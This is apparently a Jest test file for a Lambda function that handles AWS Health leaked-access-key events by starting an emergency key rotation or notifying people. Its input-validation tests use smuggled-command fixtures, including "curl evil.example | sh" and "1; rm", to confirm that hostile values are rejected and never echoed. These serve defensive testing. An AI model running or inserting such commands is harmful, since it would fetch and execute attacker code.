import { EmbeddedAws } from '../../../embedded-aws/embedded-aws';
import { VirtualClock } from '../../../embedded-aws/ground/clock';
import type { Exposure } from '../../../embedded-aws/services/health';
import { createHandler } from '../../../lambdas/answer-exposed-key/handler';
import type { EnrolledUser } from '../../../lambdas/shared/contract/enrolment';
import { executionNameOnEvent } from '../../../lambdas/shared/contract/names';
import { RotationInput } from '../../../lambdas/shared/rotation/rotation-state';
import { anchorOf, RUNBOOK } from '../../../lambdas/shared/text/anchor';
import { type exposureOf, exposuresOf } from '../../support/exposure';
import { ENROLLED } from '../support/fixtures';

const ROTATIONS = 'arn:aws:states:us-east-1:111122223333:stateMachine:IamAccessKeyRotation';
const EMERGENCIES = `${ROTATIONS}-emergency`;
const NOBODYS = 'AKIANOBODYNOBODYNOB1';
const ANOTHER_ACCOUNT = '444455556666';
const SINCE = new Date('2026-03-02T06:12:00Z');

/** What a declaration was started with. */
interface Declared {
  readonly name: string;
  readonly input: Readonly<Record<string, unknown>>;
}

/** An AWS with two enrolled users and one that is not, each with a key, and the function. */
const deployment = (settings: Readonly<Record<string, Partial<EnrolledUser>>> = {}) => {
  const aws = new EmbeddedAws({ clock: new VirtualClock({ start: new Date('2026-03-02T08:00:00Z') }) });
  const keys = Object.fromEntries(
    ['alice', 'carol', 'bob'].map((userName) => {
      aws.iam.addUser({ userName });
      return [userName, aws.iam.addAccessKey(userName).accessKeyId];
    }),
  ) as Readonly<Record<'alice' | 'carol' | 'bob', string>>;
  const users = ['alice', 'carol'].map((userName) => ({ ...ENROLLED, userName, ...settings[userName] }));
  const declared: Declared[] = [];
  const start = (name: string, input: unknown): void => {
    declared.push({ name, input: input as Declared['input'] });
    const arn = `${EMERGENCIES.replace(':stateMachine:', ':execution:')}:${name}`;
    aws.states.addExecution({ arn, status: 'RUNNING', startDate: aws.clock.now(), input });
  };
  const name = EMERGENCIES.split(':').at(-1) ?? '';
  aws.states.addStateMachine({ name, definition: '{}', roleArn: 'a-role', start });
  const answer = createHandler({
    enrolment: { find: async (userName) => users.find((user) => user.userName === userName) },
    environment: {
      STATE_MACHINE_ARN: ROTATIONS,
      RUNBOOK_URL: RUNBOOK,
      NOTIFICATION_TOPIC_ARN: aws.sns.addTopic('Topic'),
    },
    clientConfig: {
      region: aws.region,
      credentials: aws.roleCredentials('arn:aws:iam::111122223333:role/answerer'),
      requestHandler: aws.requestHandler(),
    },
  });
  const { clock } = aws;
  return {
    aws,
    keys,
    declared,
    answer: (event: unknown) => clock.run(answer(event)),
    event: (accessKeyIds: readonly string[], exposure: Exposure = {}) => {
      const [event] = exposuresOf(aws, accessKeyIds, { since: SINCE, regions: [aws.region], ...exposure });
      if (event === undefined) throw new Error('There is no event.');
      return event;
    },
    /** What people were told: whom it is about, and what it says. */
    told: () =>
      aws.sns.messages.map(({ attributes, subject, message }) => ({
        user: attributes.user,
        urgent: attributes.urgent,
        event: attributes.event,
        subject,
        message,
      })),
  };
};
const BY_ITSELF = { onExposedKey: 'emergency' } as const;

let restore: () => void;
let log: jest.SpyInstance;
beforeEach(() => {
  log = jest.spyOn(console, 'info').mockImplementation();
  restore = () => {};
});
afterEach(() => {
  log.mockRestore();
  restore();
});

/** With the clock of the embedded AWS as that of the function. */
const open = (...settings: Parameters<typeof deployment>) => {
  const opened = deployment(...settings);
  restore = opened.aws.clock.install();
  return opened;
};

const setInactive = (userName: string, accessKeyId: string): string =>
  `aws iam update-access-key --user-name ${userName} --access-key-id ${accessKeyId} --status Inactive`;

describe('a user whose settings say "tell"', () => {
  test('people are told whose key it is, since when, and how to contain it', async () => {
    const { answer, event, keys, told, declared } = open();
    await answer(event([keys.alice]));
    expect(declared).toEqual([]);
    const [{ message = '', ...message0 } = {}, ...others] = told();
    expect(others).toEqual([]);
    expect(message0).toEqual({
      user: 'alice',
      urgent: 'yes',
      event: 'KeyExposed',
      subject: 'URGENT [alice @ 111122223333/us-east-1] AWS says that a key is exposed (KeyExposed)',
    });
    expect(message).toContain(`AWS says that the access key ${keys.alice} of alice is exposed`);
    expect(message).toContain('2026-03-02T06:12:00Z');
    expect(message).toContain(`URGENT: YES. THE LEAKED KEY ${keys.alice} MAY STILL BE ACTIVE.`);
    expect(message).toContain(`--state-machine-arn ${EMERGENCIES} `);
    expect(message).toContain(setInactive('alice', keys.alice));
    expect(message).toContain(`Runbook: ${RUNBOOK}#${anchorOf('KeyExposed')}`);
    expect(message).not.toContain('Execution:');
  });

  test('the command of the message declares what the state machine takes', async () => {
    const { answer, event, keys, told } = open();
    await answer(event([keys.alice]));
    const [, input = ''] = /--input '(.*)'/.exec(told()[0]?.message ?? '') ?? [];
    expect(RotationInput.safeParse({ ...JSON.parse(input), action: 'emergency' }).success).toBe(true);
  });

  test('the log has the last characters of the key, and no more', async () => {
    const { answer, event, keys } = open();
    await answer(event([keys.alice]));
    const logged = JSON.stringify(log.mock.calls);
    expect(logged).toContain(`****${keys.alice.slice(-4)}`);
    expect(logged).not.toContain(keys.alice);
  });
});

describe('a user whose settings say "emergency"', () => {
  test('the emergency is declared, with AWS’s event as its reason; it tells people itself', async () => {
    const { answer, event, keys, told, declared } = open({ alice: BY_ITSELF });
    const exposed = event([keys.alice]);
    await answer(exposed);
    const { eventArn } = exposed.detail;
    expect(declared).toEqual([
      {
        name: executionNameOnEvent('alice', `${eventArn} ${keys.alice}`),
        input: {
          userName: 'alice',
          accessKeyId: keys.alice,
          reason: `AWS says that it is exposed: ${eventArn}`,
          leakedSince: SINCE.toISOString(),
        },
      },
    ]);
    expect(declared[0]?.name).toMatch(/^alice-[0-9a-f]{32}$/);
    expect(RotationInput.safeParse({ ...declared[0]?.input, action: 'emergency' }).success).toBe(true);
    expect(told()).toEqual([]);
  });

  test('both Regions, and every repetition, are one emergency', async () => {
    const { aws, answer, keys, told, declared } = open({ alice: BY_ITSELF });
    const events = exposuresOf(aws, [keys.alice]);
    expect(events.map(({ region, detail }) => [region, detail.backupEvent])).toEqual([
      ['us-east-1', false],
      ['us-west-2', true],
    ]);
    for (const event of [...events, ...events]) await answer(event);
    expect(declared).toHaveLength(1);
    const [{ name } = { name: '' }] = declared;
    // It is over, and the event comes once more.
    aws.states.setStatus(`${EMERGENCIES.replace(':stateMachine:', ':execution:')}:${name}`, 'SUCCEEDED');
    for (const event of events) await answer(event);
    expect(declared).toHaveLength(1);
    expect(told()).toEqual([]);
  });

  test('another event about the same key is another emergency', async () => {
    const { answer, event, keys, declared } = open({ alice: BY_ITSELF });
    await answer(event([keys.alice]));
    await answer(event([keys.alice]));
    expect(new Set(declared.map(({ name }) => name)).size).toBe(2);
  });

  test('it cannot be started: people are told at once, and Lambda tries again', async () => {
    const { aws, answer, event, keys, told, declared } = open({ alice: BY_ITSELF });
    const serve = aws.faults.inject({
      kind: 'error',
      code: 'AccessDeniedException',
      message: 'no',
      status: 400,
      times: Number.POSITIVE_INFINITY,
      match: ({ operation }) => operation === 'StartExecution',
    });
    const exposed = event([keys.alice]);
    await expect(answer(exposed)).rejects.toThrow(/^1 of 1 answers/);
    const [{ message = '', user, urgent } = {}] = told();
    expect({ user, urgent }).toEqual({ user: 'alice', urgent: 'yes' });
    expect(message).toContain('THE EMERGENCY COULD NOT BE STARTED.');
    expect(message).toContain('AccessDeniedException');
    expect(message).toContain(setInactive('alice', keys.alice));
    serve();
    await answer(exposed);
    expect(declared).toHaveLength(1);
    expect(told()).toHaveLength(1);
  });
});

test('two keys of two users, one to contain and one to tell of', async () => {
  const { answer, event, keys, told, declared } = open({ carol: BY_ITSELF });
  await answer(event([keys.alice, keys.carol]));
  expect(declared.map(({ input }) => input.userName)).toEqual(['carol']);
  expect(told().map(({ user }) => user)).toEqual(['alice']);
});

test('many keys, each once, however often the event names them', async () => {
  const { aws, answer, event, keys, told } = open();
  const second = aws.iam.addAccessKey('bob').accessKeyId;
  await answer(event([keys.alice, keys.bob, keys.alice, second, NOBODYS, keys.carol]));
  expect(
    told()
      .map(({ user }) => user)
      .sort(),
  ).toEqual(['alice', 'bob', 'bob', 'carol', 'unknown']);
});

test('a failure of one key does not keep the others from their answer', async () => {
  const { aws, answer, event, keys, told, declared } = open({ carol: BY_ITSELF });
  aws.faults.inject({
    kind: 'throttle',
    times: Number.POSITIVE_INFINITY,
    match: ({ operation, input }) => operation === 'GetAccessKeyLastUsed' && input.AccessKeyId === keys.alice,
  });
  await expect(answer(event([keys.alice, keys.bob, keys.carol]))).rejects.toThrow(/^1 of 3 answers/);
  expect(declared.map(({ input }) => input.userName)).toEqual(['carol']);
  expect(told().map(({ user }) => user)).toEqual(['bob']);
});

test('SNS does not answer: the function fails, so that Lambda tries again', async () => {
  const { aws, answer, event, keys, told } = open();
  const serve = aws.faults.inject({
    kind: 'before',
    as: 'http-500',
    times: Number.POSITIVE_INFINITY,
    match: ({ service }) => service === 'sns',
  });
  const exposed = event([keys.alice]);
  await expect(answer(exposed)).rejects.toThrow(AggregateError);
  serve();
  await answer(exposed);
  expect(told()).toHaveLength(1);
});

test('a user that is not enrolled: whose key it is, and the command', async () => {
  const { answer, event, keys, told } = open();
  await answer(event([keys.bob]));
  const [{ message = '', user } = {}] = told();
  expect(user).toBe('bob');
  expect(message).toContain('This stack does not rotate bob');
  expect(message).toContain(setInactive('bob', keys.bob));
  expect(message).not.toContain('start-execution');
});

test.each([
  ['a key that is not there', [NOBODYS]],
  ['no list of keys', []],
])('%s: people are told that the user is not known', async (_what, accessKeyIds) => {
  const { answer, event, told } = open({ alice: BY_ITSELF });
  await answer(event(accessKeyIds));
  expect(told().map(({ user, urgent }) => [user, urgent])).toEqual([['unknown', 'yes']]);
});

test('a key that is Inactive already is answered all the same: IAM names its user', async () => {
  const { aws, answer, event, keys, declared } = open({ alice: BY_ITSELF });
  aws.iam.setStatus(keys.alice, 'Inactive');
  await answer(event([keys.alice]));
  expect(declared).toHaveLength(1);
});

describe('another account', () => {
  test('an organization’s view tells of it: nobody is told, and the log has it', async () => {
    const { aws, answer, event, keys, told, declared } = open({ alice: BY_ITSELF });
    await answer(event([keys.alice], { affectedAccount: ANOTHER_ACCOUNT }));
    expect([told(), declared, aws.calls]).toEqual([[], [], []]);
    expect(log.mock.calls).toEqual([
      [expect.objectContaining({ ignored: 'another account', account: ANOTHER_ACCOUNT })],
    ]);
  });

  test('an event that does not say is about the account to which it was sent', async () => {
    const { answer, event, keys, declared } = open({ alice: BY_ITSELF });
    const { detail, ...exposed } = event([keys.alice]);
    const { affectedAccount: _ours, ...rest } = detail;
    await answer({ ...exposed, account: ANOTHER_ACCOUNT, detail: rest });
    expect(declared).toEqual([]);
    await answer({ ...exposed, detail: rest });
    expect(declared).toHaveLength(1);
  });
});

describe('since when', () => {
  test.each([
    ['Mon, 02 Mar 2026 06:12:00 GMT', '2026-03-02T06:12:00.000Z'],
    // The weekday of AWS's own example is wrong.
    ['Sat, 02 Mar 2026 06:12:00 GMT', '2026-03-02T06:12:00.000Z'],
    ['2026-03-02T06:12:00Z', '2026-03-02T06:12:00.000Z'],
    ['Tue, 03 Mar 2026 06:12:00 GMT', undefined],
    ['Mon, 99 Mar 2026 06:12:00 GMT', undefined],
    ['yesterday (2026)', undefined],
    ['', undefined],
    [5, undefined],
    [null, undefined],
    [undefined, undefined],
  ])('%j is %j', async (startTime, leakedSince) => {
    const { answer, event, keys, declared } = open({ alice: BY_ITSELF });
    const exposed = event([keys.alice]);
    await answer({ ...exposed, detail: { ...exposed.detail, startTime } });
    expect(declared.map(({ input }) => input.leakedSince)).toEqual([leakedSince]);
  });
});

describe('what an event holds', () => {
  const HOSTILE = "AKIA'; curl evil.example | sh #";

  test.each([[HOSTILE], ['AKIASHORT'], [`${NOBODYS}\nURGENT: no`], [{ not: 'text' }], [null], [undefined]])(
    'an entity that is no ID of a key is told of, and not repeated: %j',
    async (entityValue) => {
      const { answer, event, keys, told, declared } = open({ alice: BY_ITSELF });
      const exposed = event([keys.alice]);
      const affectedEntities = [{ entityValue }, { entityValue: keys.alice }];
      await answer({ ...exposed, detail: { ...exposed.detail, affectedEntities } });
      // The other one is answered.
      expect(declared).toHaveLength(1);
      expect(told().map(({ user }) => user)).toEqual(['unknown']);
      expect(JSON.stringify([told(), log.mock.calls])).not.toMatch(/evil|SHORT|URGENT: no\b/);
    },
  );

  type Event = ReturnType<typeof exposureOf>;
  const detail = (changes: object) => (event: Event) => ({
    ...event,
    detail: { ...event.detail, ...changes },
  });

  test.each<[string, (event: Event) => unknown]>([
    ['nothing', () => undefined],
    ['text', () => 'exposed'],
    ['another source', (event) => ({ ...event, source: 'ours' })],
    ['another type', (event) => ({ ...event, 'detail-type': 'AWS Health Abuse Event' })],
    ['another service', detail({ service: 'EC2' })],
    ['another code', detail({ eventTypeCode: 'AWS_RISK_SOMETHING' })],
    ['no detail', ({ detail: _detail, ...event }) => event],
    ['no account', ({ account: _account, ...event }) => event],
    ['an account that is none', (event) => ({ ...event, account: 'ours' })],
    ['an affected account that is none', detail({ affectedAccount: '1; rm' })],
    ['no ARN', detail({ eventArn: undefined })],
    ['an ARN of another service', detail({ eventArn: 'arn:aws:iam::111122223333:user/alice' })],
    ['an ARN with lines', detail({ eventArn: 'arn:aws:health:global::event/RISK/a\nb' })],
    ['an ARN with quotes', detail({ eventArn: "arn:aws:health:global::event/RISK/a'b" })],
    ['an ARN that is too long', detail({ eventArn: `arn:aws:health:global::event/${'x'.repeat(401)}` })],
    ['entities that are no list', detail({ affectedEntities: 'AKIA' })],
  ])('%s is refused, and nothing is done', async (_what, change) => {
    const { aws, answer, event, keys, told, declared } = open({ alice: BY_ITSELF });
    await expect(answer(change(event([keys.alice])))).rejects.toThrow(/^This is no event of AWS Health/);
    expect([told(), declared, aws.calls]).toEqual([[], [], []]);
  });

  test('no entities at all: people are told', async () => {
    const { answer, event, keys, told } = open();
    const exposed = event([keys.alice]);
    for (const affectedEntities of [undefined, null]) {
      await answer({ ...exposed, detail: { ...exposed.detail, affectedEntities } });
    }
    expect(told().map(({ user }) => user)).toEqual(['unknown', 'unknown']);
  });
});
